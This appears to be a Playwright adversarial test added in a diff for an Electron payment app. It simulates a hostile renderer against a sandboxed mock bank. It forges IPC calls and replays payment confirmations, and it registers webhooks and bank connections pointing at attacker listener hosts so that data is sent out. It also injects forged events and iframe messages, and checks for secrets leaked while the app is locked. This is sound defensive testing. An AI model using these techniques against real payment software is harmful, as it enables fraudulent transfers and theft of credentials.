@@ -1,0 +1,236 @@
+import type { Page } from '@playwright/test'
+import { randomOf } from '../../electron/sandbox/ledger/random.ts'
+import { type Channel, contract } from '../../shared/ipc/contract.ts'
+import { askBank } from '../demo/ask-bank.ts'
+import { askPage, type Call } from './ask-page.ts'
+import { type Asks, asksOf } from './asks.ts'
+import { pause, unwillingHand } from './hand.ts'
+import { lookWhileLocked } from './look-while-locked.ts'
+import { wayName } from './planted-script.ts'
+import { type Deeds, PASSPHRASE, type Stage } from './stage.ts'
+import { insideIn } from './told-inside.ts'
+import { waysOut } from './ways-out.ts'
+
+/** What came of an attack; whoever holds the page may have none of it. */
+export interface Findings {
+  /** Orders that the bank executed since it began. */
+  readonly movements: number
+  /** What the attacker's servers heard. */
+  readonly heard: readonly string[]
+  /** Addresses of the attacker's that the bank was told. */
+  readonly registered: number
+  /** Channels that were answered while locked and may not be, and what was readable. */
+  readonly leaks: readonly string[]
+  /** Answers that told of the inside. */
+  readonly insides: readonly string[]
+  /** Whether the page stands where it stood, main lives, and nothing in it was a bug. */
+  readonly strayed: readonly string[]
+  readonly deeds: Deeds
+  /** How much was tried. */
+  readonly calls: number
+  readonly ways: number
+  readonly confirmations: number
+  readonly presses: number
+}
+
+const asking = (Object.keys(contract) as Channel[]).filter((channel) => contract[channel].effect === 'asks')
+
+/** Lets whoever holds the page do what he can for so long (ms), lock included; all of it follows from the seed, but not its order in time. */
+export async function attack(stage: Stage, seed: number, lasts: number): Promise<Findings> {
+  const { app, page, bank, listeners } = stage
+  const random = randomOf(seed)
+  const asks = asksOf(seed, stage.asked)
+  for (const { answer } of stage.asked) asks.learn(JSON.stringify(answer) ?? '')
+  const executed = async (): Promise<number> => Object.values(await bank.executions()).flat().length
+  const before = await executed()
+  const start = page.url()
+  const hand = unwillingHand(app, randomOf(seed + 1))
+  const insides = new Set<string>()
+  let [calls, ways] = [0, 0]
+
+  const call = async (list: readonly Call[]): Promise<readonly string[]> => {
+    calls += list.length
+    const told = await askPage(page, list)
+    for (const one of told) {
+      if (one.startsWith('{"ok":true')) asks.learn(one)
+      else for (const found of insideIn(one)) insides.add(found)
+    }
+    return told
+  }
+
+  const moves: readonly [() => Promise<unknown>, ...(() => Promise<unknown>)[]] = [
+    // First what comes before a person: no more than twenty of these pass at once.
+    () => payAnyhow(call, asks, 1),
+    () => call(addressesOf(listeners.hosts)),
+    ...many(2, () => () => call(many(random.between(10, 60), asks.any))),
+    ...many(4, () => () => payAnyhow(call, asks, random.between(1, 5))),
+    () => call(many(100, () => asks.on(random.pick(asking as [Channel, ...Channel[]])))),
+    () => call([{ channel: 'settings.change', ask: { passphraseAbove: random.pick([null, 0, 900_000_000]) } }]),
+    () =>
+      call(
+        many(20, (at) => ({ channel: forged[at % forged.length], ask: { seal: random.text(32), passphrase: null } })),
+      ),
+    () => forge(page),
+    ...many(6, () => async () => {
+      ways += await takeWays(page, listeners.hosts, random.between(0, 1_000_000))
+    }),
+  ]
+  const until = performance.now() + lasts
+  // Each once, then any.
+  for (let at = 0; at < moves.length || performance.now() < until; at += 1) {
+    await (moves[at] ?? random.pick(moves))()
+    await unlockAgain(page)
+  }
+  // Once every way, whatever the seed took.
+  ways += await takeWays(page, listeners.hosts, null)
+
+  const secrets = [bank.offer.accounts.clientSecret, bank.offer.qrcodes.clientSecret, bank.offer.tls.pfxPassword]
+  const leaks = await lookWhileLocked(stage, asks, secrets)
+  await pause(500)
+  await hand.stop()
+  const strayed = page.url().replace(/#.*/, '') === start ? [] : [page.url()]
+  return {
+    movements: (await executed()) - before,
+    heard: listeners.heard(),
+    registered: await registeredWith(stage),
+    leaks: leaks.slice(0, 20),
+    insides: [...insides],
+    strayed: [...strayed, ...(await bugsIn(stage))],
+    deeds: await stage.deeds(),
+    calls,
+    ways,
+    confirmations: hand.seen(),
+    presses: hand.pressed(),
+  }
+}
+
+/** The person comes back, where the attacker locked. */
+async function unlockAgain(page: Page): Promise<void> {
+  const [told = ''] = await askPage(page, [{ channel: 'session.read', ask: {} }])
+  const id = /"stage":"locked".*"active":"([0-9a-f]{16})"/.exec(told)?.[1]
+  if (id === undefined) return
+  await askPage(page, [{ channel: 'session.unlock', ask: { connectionId: id, passphrase: PASSPHRASE } }], 30_000)
+}
+
+const forged = [
+  'confirmation.read',
+  'confirmation.confirm',
+  'confirmation.systemCheck',
+  'confirmation.back',
+  'quita:confirmation-call',
+]
+
+function many<T>(count: number, make: (at: number) => T): T[] {
+  return Array.from({ length: count }, (_, at) => make(at))
+}
+
+type Calling = (list: readonly Call[]) => Promise<readonly string[]>
+
+/** Reviews a payment, asks for its sending many times over, and pulls at it while the window stands. */
+async function payAnyhow(call: Calling, asks: Asks, times: number): Promise<void> {
+  const [told = ''] = await call([asks.payment()])
+  const id = /"reviewId":"([0-9a-f]+)"/.exec(told)?.[1]
+  if (id === undefined) return
+  const confirm = { channel: 'payments.confirm', ask: { reviewId: id, duplicateReason: 'Conferido por telefone' } }
+  asks.remember(confirm)
+  await call(many(times, () => confirm))
+  await call([
+    { channel: 'payments.sendAgain', ask: { id } },
+    asks.payment(),
+    { channel: 'payments.cancelReview', ask: { reviewId: id } },
+    { channel: 'payments.close', ask: { id, as: 'abandoned', reason: 'não foi enviado' } },
+    { channel: 'payments.abandon', ask: { id, reason: 'não foi enviado' } },
+    { channel: 'watch.release', ask: { reason: 'pode seguir agora' } },
+    confirm,
+  ])
+}
+
+/** Has the engine, or the bank, call the attacker: at his servers by number and by name. */
+function addressesOf(hosts: readonly string[]): Call[] {
+  return hosts.flatMap((host) => {
+    const uri = `https://${host}/told`
+    const door = { baseUrl: uri, clientId: 'x', clientSecret: 'x', pin: null }
+    const form = { kind: 'TRANSFER', uri, email: null, method: 'POST', enabled: true, pauseOnFail: false, headers: [] }
+    const connection = {
+      companyName: 'Aurora Distribuidora',
+      companyDocument: '41208765000107',
+      environment: 'homologation',
+      payer: { institution: null, issuer: null, number: null },
+      accounts: door,
+      qrcodes: door,
+      vaultPassphrase: 'lilás trovão quieto martelo areia',
+    }
+    return [
+      { channel: 'webhooks.test', ask: { uri } },
+      { channel: 'webhooks.create', ask: form },
+      { channel: 'webhooks.replace', ask: { id: '1', form } },
+      { channel: 'keyWebhooks.configure', ask: { key: { kind: 'EMAIL', value: 'a@b.com' }, url: uri } },
+      { channel: 'connections.test', ask: connection },
+      { channel: 'connections.create', ask: connection },
+    ]
+  })
+}
+
+/** Forges what a person and main would do: keys, clicks, events of main, words to frames. */
+async function forge(page: Page): Promise<void> {
+  await page
+    .evaluate(() => {
+      for (const key of ['Enter', ' ', 'Escape', 'Tab']) {
+        for (const kind of ['keydown', 'keyup'])
+          (document.activeElement ?? document.body).dispatchEvent(new KeyboardEvent(kind, { key, bubbles: true }))
+      }
+      const buttons = [...document.querySelectorAll('button')]
+      for (const button of buttons.slice(0, 20)) button.click()
+      window.focus()
+      const pushed = { event: 'session.changed', payload: { session: { stage: 'open' } } }
+      window.dispatchEvent(new CustomEvent('quita:event', { detail: pushed }))
+      window.postMessage(pushed, '*')
+      const frame = document.createElement('iframe')
+      frame.src = `${location.origin.replace('bundle', 'reader')}/index.html`
+      document.body.append(frame)
+      frame.addEventListener('load', () => {
+        const { port1, port2 } = new MessageChannel()
+        port1.onmessage = ({ data }) => (Reflect.get(window, 'pushed') as unknown[]).push(String(data))
+        frame.contentWindow?.postMessage({ room: 'pdf' }, '*', [port2])
+        for (const word of [null, 0, 'pdf', { id: 1, deed: 'open', ask: {} }, new Uint8Array(1000)])
+          port1.postMessage(word)
+        setTimeout(() => frame.remove(), 200)
+      })
+    })
+    .catch(() => undefined) // the page may be emptied meanwhile
+}
+
+/** Takes ten of the ways out, from the `from`th on, or all of them (null), in the page; gives how many. */
+async function takeWays(page: Page, hosts: readonly string[], from: number | null): Promise<number> {
+  const all = Object.keys(waysOut).flatMap((name) => hosts.map((host) => wayName(name, host)))
+  const names = from === null ? all : many(10, (at) => all[(from + at) % all.length] ?? '')
+  await page
+    .evaluate(async (list) => {
+      await new Promise((resolve) => setTimeout(resolve, 20)) // until then the debugger that runs this may do more than the page
+      for (const name of list) {
+        try {
+          void Promise.resolve((Reflect.get(window, name) as () => unknown)()).catch(() => undefined)
+        } catch {
+          // refused
+        }
+      }
+      await new Promise((resolve) => setTimeout(resolve, 150))
+    }, names)
+    .catch(() => undefined)
+  return names.length
+}
+
+/** How many addresses of the attacker's the bank would call from now on. */
+async function registeredWith({ bank, listeners }: Stage): Promise<number> {
+  const told = JSON.stringify(await askBank(bank.offer, { group: 'accounts', method: 'GET', path: '/webhooks' }))
+  return listeners.hosts.filter((host) => told.includes(host)).length
+}
+
+/** What in main was a bug, by its log. */
+async function bugsIn({ app }: Stage): Promise<readonly string[]> {
+  const log = (await app.evaluate(
+    `({ app }) => process.getBuiltinModule('node:fs').readFileSync(app.getPath('userData') + '/logs/quita.log', 'utf8')`,
+    null,
+  )) as string
+  return log.split('\n').filter((line) => /"event":"(?:call\.bug|job\.bug|page\.gone|engine\.failed)"/.test(line))
+}
